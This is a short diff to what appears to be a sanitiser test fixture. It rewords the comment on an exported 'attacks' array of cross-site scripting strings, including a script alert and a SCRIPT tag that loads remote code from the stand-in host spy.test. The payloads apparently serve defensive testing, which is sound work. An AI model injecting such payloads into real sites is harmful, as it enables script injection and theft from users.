@@ -1,4 +1,4 @@
-/** Texts that did something in some browser or some sanitiser once. */
+/** Payloads that once worked in some browser or sanitiser. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://spy.test/x.js></SCRIPT>',
